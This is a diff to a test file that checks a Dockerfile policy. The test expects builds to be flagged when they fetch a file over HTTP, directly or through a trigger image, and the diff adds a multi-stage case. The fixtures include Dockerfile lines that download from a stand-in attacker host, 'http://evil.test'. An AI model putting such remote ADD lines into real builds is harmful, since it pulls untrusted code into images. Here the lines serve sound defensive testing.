@@ -155,6 +155,7 @@ void tap.test(
         `FROM ${TEST_IMAGE}\nARG U=http://evil.test\nADD $U /x\n`,
         /Dockerfile:3: .*past the policy/,
       ],
+      [`FROM ${TEST_IMAGE} AS a\nFROM ${TRIGGER_IMAGE}\nRUN true\n`, /ADD http:.*past the policy/],
       [`FROM ${TRIGGER_IMAGE}\nRUN true\n`, /ADD http:\/\/evil\.test.*past the policy/],
     ] as const) {
       const desk = openDesk(t)
